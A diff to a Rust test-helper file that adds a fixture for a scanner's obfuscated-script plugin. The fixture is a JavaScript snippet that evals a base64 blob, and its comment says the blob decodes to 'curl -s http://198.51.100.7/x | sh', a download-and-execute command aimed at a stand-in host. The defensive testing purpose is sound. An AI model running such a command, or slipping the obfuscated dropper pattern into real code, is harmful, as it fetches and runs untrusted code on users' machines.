@@ -25,6 +25,14 @@ pub fn eicar() -> Vec<u8> {
     bytes
 }
 
+/// A JavaScript dropper that runs a base64-encoded command line with `eval(atob(...))`, which
+/// the obfuscated-script plugin reports.
+pub fn encoded_dropper_js() -> String {
+    // Base64 of "curl -s http://198.51.100.7/x | sh; " (36 bytes, so it repeats cleanly).
+    let blob = "Y3VybCAtcyBodHRwOi8vMTk4LjUxLjEwMC43L3ggfCBzaDsg".repeat(13);
+    format!("var p = \"{blob}\";\neval(atob(p));\n")
+}
+
 /// The hostile test plugin (`tests/hostile-plugin`: traps, loops, floods... on files whose content
 /// names the misbehaviour), built once per test binary.
 pub fn hostile_plugin() -> &'static Path {
